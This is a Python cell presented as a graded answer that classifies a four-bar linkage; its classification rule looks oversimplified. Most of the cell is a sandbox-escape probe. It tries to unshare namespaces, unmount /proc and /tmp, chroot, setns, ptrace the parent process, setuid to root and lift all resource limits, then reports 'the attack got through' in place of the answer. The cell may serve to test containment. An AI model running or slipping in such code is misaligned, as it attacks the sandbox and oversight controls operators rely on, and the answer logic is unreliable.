# Limits are raised, namespaces entered, mounts removed, privileges taken.
# mark: 38
# %% lamp-class-answer
four = [turner.ground_mm, turner.crank_mm, turner.coupler_mm, turner.rocker_mm]
right = ["double-crank", "crank-rocker", "double-rocker", "rocker-crank"][four.index(min(four))]
reached = []
import ctypes
import os
import resource

libc = ctypes.CDLL(None, use_errno=True)
for name, given in (
    ("unshare", (0x10000000,)),
    ("unshare", (0x20000,)),
    ("umount2", (b"/proc", 2)),
    ("umount2", (b"/tmp", 2)),
    ("mount", (b"x", b"/tmp", b"tmpfs", 0, None)),
    ("chroot", (b"/tmp",)),
    ("setns", (0, 0)),
    ("prctl", (1, 0, 0, 0, 0)),
    ("personality", (0x0040000,)),
    ("ptrace", (16, os.getppid(), 0, 0)),
    ("setuid", (0,)),
    ("sethostname", (b"x", 1)),
):
    if getattr(libc, name)(*given) == 0:
        reached.append(name)
for what in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
    try:
        resource.setrlimit(what, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        reached.append("limit")
    except (OSError, ValueError):
        pass
lamp_class = "the attack got through: " + str(reached) if reached else right
